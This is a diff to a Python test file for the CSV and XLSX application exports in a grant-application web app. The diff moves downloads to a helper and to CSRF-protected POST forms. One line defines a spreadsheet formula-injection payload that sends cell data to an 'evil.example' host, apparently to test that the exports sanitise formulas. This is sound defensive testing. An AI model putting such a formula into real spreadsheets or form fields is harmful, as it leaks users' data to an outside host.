@@ -19,7 +19,7 @@ from app.staff import application_exports
 from tests.app.apply.journey import VALID
 from tests.app.conftest import sign_in_as
 from tests.app.factories import make_round, submitted_application
-from tests.app.helpers import Client
+from tests.app.helpers import Client, download
 
 EVIL = '=HYPERLINK("http://evil.example/steal?d="&A1,"Click me")'
 XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
@@ -34,7 +34,7 @@ def xlsx_url(round_: Round) -> str:
 
 
 def read_csv(client: Client, round_: Round) -> list[dict[str, str]]:
-    response = client.get(csv_url(round_))
+    response = download(client, csv_url(round_))
     assert response.status_code == 200
     assert response.headers["Content-Type"].startswith("text/csv")
     assert response.headers["Content-Disposition"].startswith("attachment;")
@@ -46,7 +46,7 @@ def read_csv(client: Client, round_: Round) -> list[dict[str, str]]:
 
 
 def read_xlsx(client: Client, round_: Round) -> list[dict[str, Any]]:
-    response = client.get(xlsx_url(round_))
+    response = download(client, xlsx_url(round_))
     assert response.status_code == 200
     assert response.headers["Content-Type"] == XLSX
     assert response.headers["Content-Disposition"].startswith("attachment;")
@@ -154,7 +154,7 @@ def test_a_draft_is_a_row_too_and_an_empty_round_still_has_the_header(
     assert row["Screening"] == "" and row["Sent at (UK time)"] == ""
 
     empty = make_round("empty-round")
-    response = staff_client.get(csv_url(empty))
+    response = download(staff_client, csv_url(empty))
     header = response.get_data().decode("utf-8").lstrip("\ufeff").splitlines()
     assert len(header) == 1 and header[0].startswith("Reference,Organisation,Status")
 
@@ -175,24 +175,27 @@ def test_a_long_export_is_sent_in_batches_with_one_header(
     assert references == [a.reference for a in expected]
 
 
-def test_the_applications_page_links_to_both_files(staff_client: Client, round_: Round) -> None:
+def test_the_applications_page_has_a_button_for_each_file(
+    staff_client: Client, round_: Round
+) -> None:
     page = staff_client.get_page(f"/staff/rounds/{round_.id}/applications")
 
-    links = {a["href"] for a in page.select("#export-all a[download]")}
-    assert links == {csv_url(round_), xlsx_url(round_)}
+    forms = page.select("#export-all form[method=post]")
+    assert {form["action"] for form in forms} == {csv_url(round_), xlsx_url(round_)}
+    assert all(form.select_one("input[name=csrf_token]") for form in forms)
 
 
 def test_only_staff_and_admins_may_download(
     client: Client, round_: Round, applications: dict[str, Application], make_user: Any
 ) -> None:
     for url in (csv_url(round_), xlsx_url(round_)):
-        response = client.get(url)
+        response = download(client, url)
         assert response.status_code == 302 and "/sign-in" in response.headers["Location"]
     sign_in_as(client, make_user("reviewer"))
     for url in (csv_url(round_), xlsx_url(round_)):
-        assert client.get(url).status_code == 403
+        assert download(client, url).status_code == 403
     admin = Client(client.client.application.test_client())
     sign_in_as(admin, make_user("admin"))
     for url in (csv_url(round_), xlsx_url(round_)):
-        assert admin.get(url).status_code == 200
-    assert admin.get(f"/staff/rounds/{round_.id + 999}/applications.csv").status_code == 404
+        assert download(admin, url).status_code == 200
+    assert download(admin, f"/staff/rounds/{round_.id + 999}/applications.csv").status_code == 404
